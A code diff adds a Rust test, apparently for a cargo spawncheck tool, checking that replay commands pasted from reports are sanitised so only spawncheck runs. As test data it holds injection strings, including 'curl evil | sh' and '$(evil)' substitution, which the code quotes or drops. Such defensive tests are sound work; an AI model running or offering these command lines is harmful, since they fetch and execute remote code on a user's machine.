@@ -98,3 +98,21 @@ fn binaries_that_take_no_part_are_told_once() {
         &["`p::old` on x86_64-unknown-linux-gnu: takes no part: no protocol"],
     );
 }
+
+/// Whoever pastes it runs `cargo spawncheck`, and nothing else.
+#[test]
+fn commands_of_strangers() {
+    let command = |replay: &str| {
+        let finding = json!({"replay": replay});
+        let report = Lines::of(LINUX).test("a", "passed", "failed").finding("brittle", "deny", "a", finding);
+        story(&joined([report.end(120)])).replay.clone()
+    };
+    for own in ["cargo spawncheck replay p::it 'it'\\''s $ODD'", "cargo spawncheck -p p --lib"] {
+        assert_eq!(command(own), own);
+    }
+    assert_eq!(command("cargo spawncheck x; curl evil | sh"), "cargo spawncheck 'x;' curl evil '|' sh");
+    assert_eq!(command("cargo spawncheck $(evil)\n`evil`"), "cargo spawncheck '$(evil)' '`evil`'");
+    for other in ["curl evil | sh", "cargo 'spawncheck", "cargo run", ""] {
+        assert_eq!(command(other), "");
+    }
+}
